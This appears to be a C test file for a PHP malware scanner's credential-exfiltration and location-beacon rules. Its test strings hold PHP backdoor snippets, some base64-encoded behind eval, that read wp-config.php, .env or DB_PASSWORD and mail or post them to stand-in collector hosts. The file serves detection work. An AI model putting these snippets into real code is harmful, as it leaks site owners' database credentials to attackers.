/* The PHP analysis: php.config_exfil, the site's configuration (the text
 * of wp-config.php and its kin, or the DB_PASSWORD constant) mailed or sent
 * by an outbound request: the beacon a backdoor sends its author. An
 * application reads its config to use it; a look-alike that only shows or
 * checks it is quiet. Every snippet is written here from the technique,
 * not taken from a sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

static void test_beacons(void **state)
{
	(void)state;
	/* parsed with a regex, joined, sent in a query string */
	expect("<?php $c = @file_get_contents(dirname(__FILE__) . '/../../../wp-config.php');\n"
	       "preg_match_all(\"/define\\(\\s*'(DB_[A-Z]+)'\\s*,\\s*'([^']*)'/\", $c, $m);\n"
	       "$out = http_build_query(array('h' => $_SERVER['HTTP_HOST'], "
	       "'d' => json_encode(array_combine($m[1], $m[2]))));\n"
	       "@file_get_contents('http://collector.example/c.php?' . $out);",
	       "php.config_exfil", HS_SEV_HIGH);
	/* each config name of several applications tried, mailed */
	expect(
	    "<?php foreach (array('wp-config.php', 'configuration.php', '.env') as $f) {\n"
	    "if (is_file($_SERVER['DOCUMENT_ROOT'] . '/' . $f)) mail('drop@example.net', "
	    "$_SERVER['SERVER_NAME'], file_get_contents($_SERVER['DOCUMENT_ROOT'] . '/' . $f)); }",
	    "php.config_exfil", HS_SEV_HIGH);
	/* the constants, after the config was included */
	expect("<?php include_once(ABSPATH . 'wp-config.php');\n"
	       "$ch = curl_init('https://api.example-stats.net/ping'); curl_setopt($ch, "
	       "CURLOPT_POST, 1);\n"
	       "curl_setopt($ch, CURLOPT_POSTFIELDS, array('site' => get_site_url(), "
	       "'p' => DB_PASSWORD, 'h' => DB_HOST));\n"
	       "curl_exec($ch);",
	       "php.config_exfil", HS_SEV_HIGH);
	expect("<?php wp_remote_post('https://stats.example/in', array('body' => "
	       "array('pw' => base64_encode(DB_PASSWORD))));",
	       "php.config_exfil", HS_SEV_HIGH);
}

static void test_look_alikes(void **state)
{
	(void)state;
	/* the config read to use its values, a host name reported */
	quiet("<?php $c = file_get_contents(ABSPATH . 'wp-config.php');\n"
	      "if (strpos($c, 'WP_DEBUG') === false) echo 'add WP_DEBUG';\n"
	      "wp_remote_post('https://api.example.com/health', array('body' => array('db' => "
	      "DB_HOST, 'php' => PHP_VERSION)));");
	/* a connection made with the password, nothing sent */
	quiet("<?php $db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME); "
	      "$r = $db->query('SELECT 1'); mail('admin@example.com', 'db check', 'ok');");
	/* a hash of the password as a cache key */
	quiet("<?php $k = md5(DB_PASSWORD . 'salt'); wp_remote_get('https://cdn.example/v?k=1');");
}

/* The site's own name mailed from code the file hides, or to a mailbox it
 * hides: the shell telling its author where it landed. In the clear, the
 * same mail is a broken-link notifier's. */
static void test_location_beacons(void **state)
{
	(void)state;
	expect("<?php "
	       "eval(base64_decode('"
	       "JHUgPSAnaHR0cDovLycgLiAkX1NFUlZFUlsnSFRUUF9IT1NUJ10gLiAkX1NFUlZFUlsnUkVRVUVTVF9VUkk"
	       "nXTsgQG1haWwoJ2Ryb3AuYm94QGV4YW1wbGUubmV0JywgJ3VwOiAnIC4gJHUsICR1IC4gJyBmcm9tICcgLi"
	       "AkX1NFUlZFUlsnUkVNT1RFX0FERFInXSk7'));",
	       "php.location_beacon", HS_SEV_HIGH);
	expect("<?php $to = base64_decode('b3BzLmRlc2tAZXhhbXBsZS5vcmc=');\n"
	       "mail($to, 'new host', $_SERVER['HTTP_HOST'] . $_SERVER['SCRIPT_NAME']);",
	       "php.location_beacon", HS_SEV_HIGH);
	/* the same over HTTP from a decoded layer: medium (an encoded licence
	 * check sends its domain too) */
	expect("<?php "
	       "eval(base64_decode('"
	       "JGggPSAkX1NFUlZFUlsnU0VSVkVSX05BTUUnXTsgaWYgKCFpc3NldCgkX0NPT0tJRVsnc2VlbiddKSkgeyB"
	       "maWxlX2dldF9jb250ZW50cygnaHR0cDovL2NvdW50ZXIuZXhhbXBsZS9uLnBocD9zPScgLiB1cmxlbmNvZG"
	       "UoJGggLiAkX1NFUlZFUlsnUEhQX1NFTEYnXSkpOyB9'));",
	       "php.location_beacon", HS_SEV_MEDIUM);
	assert_true(find("php.location_beacon")->sev < HS_SEV_HIGH);
	/* to a collector on a bare IP address: high */
	expect("<?php "
	       "eval(base64_decode('"
	       "JHcgPSAkX1NFUlZFUlsiSFRUUF9IT1NUIl07ICR0ID0gJHcgLiAkX1NFUlZFUlsiUkVRVUVTVF9VUkkiXTs"
	       "gQGZpbGVfZ2V0X2NvbnRlbnRzKCJodHRwOi8vMTk4LjUxLjEwMC4yMy9pbi5waHA/"
	       "dT17JHR9Jms9MSIpOw=='));",
	       "php.location_beacon", HS_SEV_HIGH);
}

static void test_location_look_alikes(void **state)
{
	(void)state;
	/* a 404 notifier and a licence check, in the clear */
	quiet("<?php if (is_404()) { mail(get_option('admin_email'), 'Broken link', 'http://' . "
	      "$_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']); }");
	quiet("<?php mail('webmaster@example.com', 'Site error on ' . $_SERVER['SERVER_NAME'], "
	      "'See the log');");
	quiet("<?php $r = wp_remote_post('https://license.example.com/check', array('body' => "
	      "array('domain' => $_SERVER['HTTP_HOST'], 'key' => get_option('lk'))));");
	/* the site calling its own cron from encoded code: its own host */
	run("<?php "
	    "eval(base64_decode('"
	    "JHcgPSAkX1NFUlZFUlsiSFRUUF9IT1NUIl07IEBmaWxlX2dldF9jb250ZW50cygiaHR0cDovLyIgLiAkdyAuIC"
	    "Ivd3AtY3Jvbi5waHA/ZG9pbmdfd3BfY3JvbiIpOw=='));");
	assert_null(find("php.location_beacon"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_beacons),
	    cmocka_unit_test(test_look_alikes),
	    cmocka_unit_test(test_location_beacons),
	    cmocka_unit_test(test_location_look_alikes),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
